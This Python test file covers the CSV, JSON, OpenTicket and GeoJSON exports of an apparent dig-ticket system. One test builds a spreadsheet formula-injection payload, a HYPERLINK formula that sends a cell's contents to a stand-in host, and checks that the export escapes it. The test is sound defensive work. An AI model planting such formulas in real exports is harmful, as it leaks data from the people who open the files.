"""What other programs get: every value back, no formula, no site that is not one."""

import csv
import json
from typing import Any

import pytest
import shapely
from hypothesis import given
from hypothesis import strategies as st
from shapely.geometry import shape

from domain.errors import RejectedError
from domain.exporting import (
    BYTE_ORDER_MARK,
    COLUMNS,
    FORMULA_BEGINNINGS,
    Export,
    ExportFormat,
    csv_line,
    feature_of,
)
from domain.location import Geometry
from domain.open_ticket.reading import read_open_ticket
from domain.ticket import Ticket, TicketStatus
from tests.builders import make_draft, make_ticket
from tests.domain.lives import AFTER, ANSWERED, DIGGING, GAS, POWER, make_life

HERE = {"latitude": 30.2672, "longitude": -97.7431, "source": "manual"}
POINT: dict[str, Any] = {"type": "Point", "coordinates": [-97.7431, 30.2672]}
LINE: dict[str, Any] = {
    "type": "LineString",
    "coordinates": [[-97.7431, 30.2672], [-97.742, 30.2672]],
}
SQUARE: dict[str, Any] = {
    "type": "Polygon",
    "coordinates": [[[-97.75, 30.26], [-97.74, 30.26], [-97.74, 30.27], [-97.75, 30.26]]],
}


def written(export: ExportFormat, *tickets: Ticket, now: Any = ANSWERED, **how: Any) -> str:
    """Return an export of these tickets, each in a part of its own."""
    made = Export(export, now, **how)
    return made.begin() + "".join(made.part([one]) for one in tickets) + made.end()


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(text.splitlines(keepends=True)))


def site(kind: str, geojson: dict[str, Any], **more: Any) -> Ticket:
    geometry = Geometry.model_validate({"geometry_type": kind, "geojson": geojson, **more})
    return make_ticket(geometry=geometry)


def test_a_row_says_what_the_ticket_says() -> None:
    """Quotes, commas, ends of lines and letters of any alphabet come back as they were."""
    said = 'Rear "easement", 5 ft\r\nNORTH of Peña ☃'
    ticket = make_life(
        TicketStatus.SUBMITTED,
        members=[GAS, POWER],
        work_area_description=said,
        gps_coordinates=HERE,
        is_blasting=False,
    )

    [row] = rows(written(ExportFormat.CSV, ticket))

    assert tuple(row) == COLUMNS
    assert row["work_area_description"] == said
    assert (row["latitude"], row["longitude"]) == ("30.2672", "-97.7431")
    assert (row["status"], row["members"]) == ("Submitted", "ATM01 ONC01")
    assert (row["is_blasting"], row["is_trenchless"]) == ("false", "")
    assert row["notice_at"] == "2026-03-02T16:00:00Z"
    assert row["texas811_ticket_number"] == "2606100001"


@pytest.mark.parametrize("beginning", FORMULA_BEGINNINGS, ids=ascii)
def test_no_cell_is_computed_by_a_spreadsheet(beginning: str) -> None:
    """A work order of a stranger must not run a command on a dispatcher's machine."""
    formula = f'{beginning}HYPERLINK("http://x.example.com?"&A1)'

    [cells] = csv.reader([csv_line([formula, "plain", -97.5, 7])])

    assert cells == [f"'{formula}", "plain", "-97.5", "7"]


@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0")), min_size=2))
def test_what_is_written_is_read_back(values: list[str]) -> None:
    """But for the apostrophe before what begins like a formula."""
    [cells] = csv.reader([csv_line(values)], strict=True)

    for value, cell in zip(values, cells, strict=True):
        assert cell in {value, f"'{value}"}
        assert not cell.startswith(FORMULA_BEGINNINGS)


def test_a_spreadsheet_is_told_of_utf_8_if_that_is_wanted() -> None:
    """Without the mark it shows Peña as PeÃ±a; programs stumble over it."""
    plain = written(ExportFormat.CSV, make_draft())
    marked = written(ExportFormat.CSV, make_draft(), has_mark=True)

    assert marked == BYTE_ORDER_MARK + plain


def test_json_holds_the_whole_tickets_with_their_versions() -> None:
    """Enough to make them again."""
    tickets = [make_life(TicketStatus.SUBMITTED), make_draft("other")]

    found = json.loads(written(ExportFormat.JSON, *tickets))

    assert [Ticket.model_validate(one) for one in found] == tickets
    assert [one["version"] for one in found] == [0, 0]


def test_an_export_without_tickets_is_one() -> None:
    """A program asks every night, and most nights there is nothing."""
    assert rows(written(ExportFormat.CSV)) == []
    assert json.loads(written(ExportFormat.JSON)) == []
    assert json.loads(written(ExportFormat.OPEN_TICKET)) == []
    assert json.loads(written(ExportFormat.GEOJSON)) == {
        "type": "FeatureCollection",
        "features": [],
        "left_out": [],
    }


def test_a_ticket_is_exported_as_time_has_left_it() -> None:
    """Nobody may read that digging is lawful because a worker is late."""
    ticket = make_life(TicketStatus.READY_TO_DIG)

    assert json.loads(written(ExportFormat.JSON, ticket, now=DIGGING))[0]["status"] == (
        "ReadyToDig"
    )
    assert json.loads(written(ExportFormat.JSON, ticket, now=AFTER))[0]["status"] == "Expired"


def test_open_tickets_are_read_again_and_what_is_none_is_named() -> None:
    """A draft that nobody stands for is handed to nobody."""
    ticket = make_life(
        TicketStatus.SUBMITTED,
        gps_coordinates=HERE,
        geometry=site("Polygon", SQUARE).geometry,
    )
    export = Export(ExportFormat.OPEN_TICKET, ANSWERED)

    text = export.begin() + export.part([make_draft("draft"), ticket]) + export.end()

    [document] = json.loads(text)
    assert read_open_ticket(document).number == "2606100001"
    assert read_open_ticket(document).facts.company == ticket.company
    [left] = export.left_out
    assert left["id"] == "draft"
    assert "neither confirmed nor submitted" in str(left["problem"])


@pytest.mark.parametrize(
    ("ticket", "kind"),
    [
        (site("Polygon", SQUARE), "Polygon"),
        (site("Circle", POINT, buffer_distance_feet=50), "Polygon"),
        (site("LineBuffer", LINE, buffer_distance_feet=10), "Polygon"),
        (site("Point", POINT), "Point"),
        (make_ticket(gps_coordinates=HERE), "Point"),
    ],
    ids=["polygon", "circle", "strip", "point", "coordinates alone"],
)
def test_a_site_is_the_area_that_it_is(ticket: Ticket, kind: str) -> None:
    """A map that shows a line where a strip is dug would be wrong by its width."""
    feature = feature_of(ticket)

    drawn = shape(feature["geometry"])
    assert drawn.geom_type == kind
    assert shapely.is_valid(drawn)
    assert drawn.distance(shape(POINT)) < 0.02
    assert feature["properties"]["county"] == "Travis"


@pytest.mark.parametrize(
    "ticket",
    [
        make_draft(),
        site("LineBuffer", LINE),
        make_ticket(gps_coordinates={"latitude": 30.1}),
    ],
    ids=["nothing", "a strip of no width", "half a point"],
)
def test_a_ticket_without_a_site_is_no_feature_and_is_named(ticket: Ticket) -> None:
    """Left out in silence it would be taken for a place where nobody digs."""
    with pytest.raises(RejectedError):
        feature_of(ticket)

    found = json.loads(written(ExportFormat.GEOJSON, ticket, site("Point", POINT)))

    assert len(found["features"]) == 1
    assert [one["id"] for one in found["left_out"]] == [ticket.id]
    assert found["left_out"][0]["problem"]
